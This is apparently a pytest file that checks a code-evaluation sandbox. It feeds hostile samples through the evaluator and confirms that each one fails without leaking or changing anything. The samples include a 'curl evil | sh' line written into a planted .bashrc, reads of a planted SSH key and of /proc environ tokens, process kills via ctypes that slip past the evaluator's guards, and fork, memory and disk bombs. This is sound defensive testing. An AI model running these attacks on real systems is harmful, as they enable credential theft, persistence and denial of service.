"""Hostile samples through the real ``evaluate`` path: each fails alone, the run finishes, nothing leaks.

Each test scores one hostile sample beside one correct sample (``evaluate
--samples``, HumanEval+; the attacks that a BigCodeBench task could make
differently also through BigCodeBench) and checks: the run ends normally, the
correct sample passes, the hostile one does not (its attack raises, or the
sample is written so that it passes only if the attack worked), no watched
tree changed (hashed before and after: a planted home, a deny-listed folder,
a folder in /tmp, part of the project and of site-packages), no process of the
sample is left, and the planted secret is in no output or result file.

The attacks go around the evaluators' own guards (``builtins.open`` and
``os.kill`` replaced, ``os.fork`` disabled) as generated code can: ``io.open``,
libc through ``ctypes``. Without the namespaces (``sandbox.mechanism=none``)
the write and read attacks succeed. Every test runs twice: under the default
mechanism (as root: the namespaces made here) and under bubblewrap forced
(``sandbox.mechanism=bwrap``, what a user who is not root gets; as a real
such user in ``test_sandbox_unprivileged``).

Safety on a shared machine (these run as root): every test first checks that
the sandbox is in force (``check_isolation``) and fails otherwise; the fork
and memory bombs are bounded by the sample itself as well as by the sandbox;
signals to PID 1 or to every process are sent only from PID 1 of the sample's
own PID namespace (the sample checks it is that process before sending).
"""
from __future__ import annotations

import hashlib
import json
import os
import socket
import textwrap
import uuid
from pathlib import Path

import pytest

from megatron_snow.benchmarks import benchmark_path, read_benchmark
from megatron_snow.evaluate import cli
from megatron_snow.evaluate.sandbox import SandboxConfig, check_isolation
from megatron_snow.evaluate.tasks import ALL_UNITS, canonical_solution

SECRET = "snow-secret-" + uuid.uuid4().hex
PROJECT = Path(__file__).resolve().parents[2]
UNITS = {"humaneval+": ("humanevalplus", "HumanEval/2", "HumanEval/23"),
         "bigcodebench/full": ("bigcodebench", "BigCodeBench/97", "BigCodeBench/847")}  # standard library only


def _tree_hash(root: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(root.rglob("*")):
        if "__pycache__" in p.parts:
            continue
        h.update(str(p.relative_to(root)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


# every attack runs under the default mechanism (as root: "namespaces") and under bubblewrap forced
MECHANISMS = {"default": ({}, "namespaces"), "bwrap": ({"mechanism": "bwrap"}, "bwrap")}


@pytest.fixture(scope="module", params=list(MECHANISMS))
def isolated(request):
    """Hostile samples run only where the sandbox is in force (see the module docstring)."""
    settings, expected = MECHANISMS[request.param]
    mode = check_isolation(SandboxConfig(**settings))
    if mode != expected:
        pytest.fail(f"the sandbox is not in force here ({mode}): hostile samples are not run")
    return settings, expected


@pytest.fixture
def planted(isolated, tmp_path, monkeypatch):
    """A home with a key in ~/.ssh, a deny-listed vault, a folder outside the sample's in /tmp, a secret in the
    environment; and the trees to watch (those, part of the project, part of site-packages)."""
    import evalplus

    home, vault, outside = tmp_path / "home", tmp_path / "vault", tmp_path / "outside"
    for d in (home / ".ssh", vault, outside):
        d.mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (home / "notes.txt").write_text("my notes")
    (vault / "token").write_text(SECRET)
    (outside / "planted.txt").write_text("planted")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("SNOW_TEST_API_TOKEN", SECRET)
    watched = [home, vault, outside, PROJECT / "megatron_snow" / "evaluate", Path(evalplus.__file__).parent]
    return {"home": home, "vault": vault, "outside": outside, "watched": watched, "tmp": tmp_path,
            "marker": "snowhostile" + uuid.uuid4().hex[:4], "mechanism": isolated}


def _leftover_processes(marker: str) -> list[str]:
    out = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and Path(f"/proc/{pid}/comm").read_text().strip() == marker:
                out.append(pid)
        except OSError:
            pass
    return out


def _evaluate(unit_name: str, attack: str, planted: dict, benchmarks_dir, eval_cache, capfd, **sandbox) -> dict:
    """Score [attack + a correct solution, a correct solution] with ``evaluate``; check what every test checks."""
    stem, hostile, good = UNITS[unit_name]
    problems = {r["task_id"]: r for r in read_benchmark(benchmark_path(benchmarks_dir, stem))}
    unit = ALL_UNITS[unit_name]
    samples = planted["tmp"] / "samples.jsonl"
    rows = [{"task_id": hostile, "unit": unit_name,
             "solution": textwrap.dedent(attack) + "\n" + canonical_solution(unit, problems[hostile])},
            {"task_id": good, "unit": unit_name, "solution": canonical_solution(unit, problems[good])}]
    samples.write_text("".join(json.dumps(r) + "\n" for r in rows))
    before = {str(t): _tree_hash(t) for t in planted["watched"]}
    out = planted["tmp"] / "out"
    mechanism, expected = planted["mechanism"]
    settings = {"workers": 1, "min_time_limit": 2.0, "sample_timeout_s": 60.0,
                "deny": ["~/.ssh", str(planted["vault"])], **mechanism, **sandbox}
    rc = cli.main(["--samples", str(samples), "--benchmarks", unit_name, "--out", str(out),
                   "--benchmarks-dir", str(benchmarks_dir), f"cache_dir={eval_cache}"]
                  + [f"sandbox.{k}={json.dumps(v)}" for k, v in settings.items()])
    captured = capfd.readouterr()
    assert rc == 0, captured.err[-3000:]
    result = json.loads((out / "results" / f"{unit.file_name}.json").read_text())
    assert result["isolation"] == expected
    assert result["tasks"][good]["base"] == "pass" and result["tasks"][good].get("plus", "pass") == "pass"
    assert {str(t): _tree_hash(t) for t in planted["watched"]} == before
    assert _leftover_processes(planted["marker"]) == []
    for f in out.rglob("*"):
        if f.is_file():
            assert SECRET not in f.read_text(errors="replace"), f
    assert SECRET not in captured.out + captured.err
    return result["tasks"][hostile]


def _fails(status: dict) -> bool:
    return status["base"] != "pass" or status.get("plus", "pass") != "pass"


BOTH = pytest.mark.parametrize("unit_name", ["humaneval+", pytest.param("bigcodebench/full", marks=pytest.mark.slow)])
HUMANEVAL = pytest.mark.parametrize("unit_name", ["humaneval+"])


# ---------------------------------------------------------------- writes

@BOTH
def test_write_to_home(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = f"""
        import io, os
        with io.open({str(planted["home"] / ".bashrc")!r}, "a") as f:
            f.write("curl evil | sh\\n")
        io.open({str(planted["home"] / "notes.txt")!r}, "w").write("gone")
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


@HUMANEVAL
def test_write_to_project_tree(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = f"""
        import io
        io.open({str(PROJECT / "megatron_snow" / "evaluate" / "escaped.py")!r}, "w").write("x = 1")
        io.open({str(PROJECT / "megatron_snow" / "evaluate" / "__init__.py")!r}, "a").write("# changed")
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


@HUMANEVAL
def test_write_to_site_packages(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = """
        import io, os, evalplus
        io.open(os.path.join(os.path.dirname(evalplus.__file__), "escaped.py"), "w").write("x = 1")
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


@HUMANEVAL
def test_write_to_tmp_outside_its_directory(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    stray = Path("/tmp") / f"snow_escaped_{uuid.uuid4().hex}"
    attack = f"""
        import io
        io.open({str(planted["outside"] / "planted.txt")!r}, "w").write("overwritten")
        io.open({str(stray)!r}, "w").write("x")
    """
    status = _evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd)
    assert _fails(status) and not stray.exists()


# ---------------------------------------------------------------- reads: the sample passes only if it read the secret

@BOTH
def test_read_planted_secret(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = f"""
        import io
        found = []
        for path in ({str(planted["home"] / ".ssh" / "id_ed25519")!r}, {str(planted["vault"] / "token")!r}):
            try:
                found.append(io.open(path).read())
            except OSError:
                pass
        print(found)
        if not found:
            raise RuntimeError("no secret readable")
        raise RuntimeError("read: " + " ".join(found))  # the secret would reach the results (a leak the test sees)
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


@BOTH
def test_read_environ_of_pid1_and_of_the_evaluator(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = """
        import io, os
        texts = [repr(dict(os.environ))]
        for pid in ["1", str(os.getppid())] + os.listdir("/proc"):
            try:
                texts.append(io.open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
            except (OSError, ValueError):
                pass
        leaked = [t for t in texts if "SNOW_TEST_API_TOKEN" in t]
        if not leaked:
            raise RuntimeError("no token in any environment visible")
        print(leaked)
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


# ---------------------------------------------------------------- processes

@BOTH
def test_kill_parent(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    """Its parent is the evaluator's worker: killing it would break the run (and every other sample)."""
    attack = """
        import ctypes, os
        kill = ctypes.CDLL(None).kill  # the evaluators' guards replace os.kill; libc's is still there
        kill(os.getppid(), 9)
        if os.getpid() == 1:  # PID 1 of its own namespace: every process it can see is its own
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != 1:
                    kill(int(pid), 9)
        raise RuntimeError("still here")
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


@HUMANEVAL
def test_kill_pid1_and_everyone(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = """
        import ctypes, os
        if os.getpid() != 1:
            raise SystemExit("not PID 1 of a namespace of its own: not sending signals (test safety)")
        kill = ctypes.CDLL(None).kill  # the evaluators' guards replace os.kill; libc's is still there
        kill(1, 9)
        kill(-1, 9)
        raise RuntimeError("still here")
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))


@HUMANEVAL
def test_fork_bomb_through_ctypes(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    """``os.fork`` is disabled by the evaluators' guard; libc's is not. Stopped by the sample's process limit."""
    attack = f"""
        import ctypes
        libc = ctypes.CDLL(None)
        n = 0
        while n < 2000:  # the test's own bound: past it the bomb "succeeded" and the sample passes
            pid = libc.fork()
            if pid == 0:
                libc.prctl(15, {planted["marker"].encode()!r}, 0, 0, 0)  # PR_SET_NAME: found if left behind
                libc.pause()
                libc._exit(0)
            if pid < 0:
                raise RuntimeError(f"fork failed after {{n}} processes")
            n += 1
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd, max_processes=64))


@HUMANEVAL
def test_memory_bomb(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = """
        chunks = []
        for _ in range(64):  # at most 64 x 256 MB: the test's own bound
            chunks.append(bytearray(256 * 2**20))
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd, memory_mb=1024))


@HUMANEVAL
def test_disk_bomb_in_its_own_directory(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    """Its own directory is writable but bounded (a tmpfs of sandbox.tmp_size_mb)."""
    attack = """
        import io
        block = b"x" * 2**20
        for i in range(512):  # at most 512 MB: the test's own bound
            with io.open(f"fill{i}", "wb") as f:
                f.write(block)
    """
    assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd, tmp_size_mb=64))


@BOTH
def test_sleeping_child_does_not_outlive_the_run(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    attack = f"""
        import ctypes
        libc = ctypes.CDLL(None)
        if libc.fork() == 0:
            libc.setsid()
            libc.prctl(15, {planted["marker"].encode()!r}, 0, 0, 0)  # PR_SET_NAME: found if left behind
            if libc.fork() == 0:  # daemonized: not even a child of the sample any more
                libc.prctl(15, {planted["marker"].encode()!r}, 0, 0, 0)
                libc.sleep(600)
            libc._exit(0)
    """
    _evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd)  # checks no process is left


@HUMANEVAL
def test_network_connection(unit_name, isolated, planted, benchmarks_dir, eval_cache, capfd):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    attack = f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"hello")
    """
    try:
        assert _fails(_evaluate(unit_name, attack, planted, benchmarks_dir, eval_cache, capfd))
        with pytest.raises(socket.timeout):
            listener.accept()
    finally:
        listener.close()


def test_no_isolation_stops_with_one_line(monkeypatch, tmp_path, capsys):
    """Where namespaces cannot be made the run stops before anything runs, unless allowed; the results say which."""
    from megatron_snow.evaluate import sandbox

    monkeypatch.setattr(sandbox, "probe_isolation", lambda hide, tmp_size_mb=16: "unshare: Operation not permitted")
    (tmp_path / "s.jsonl").write_text(json.dumps({"task_id": "HumanEval/0", "completion": "    return 1\n"}) + "\n")
    rc = cli.main(["--samples", str(tmp_path / "s.jsonl"), "--benchmarks", "humaneval+", "--out", str(tmp_path / "o")])
    err = capsys.readouterr().err.strip().splitlines()
    assert rc == 1 and len(err) == 1 and "sandbox.allow_unisolated=true" in err[0], err
    assert not (tmp_path / "o").exists()
    assert sandbox.check_isolation(SandboxConfig(allow_unisolated=True)) == "none (unshare: Operation not permitted)"
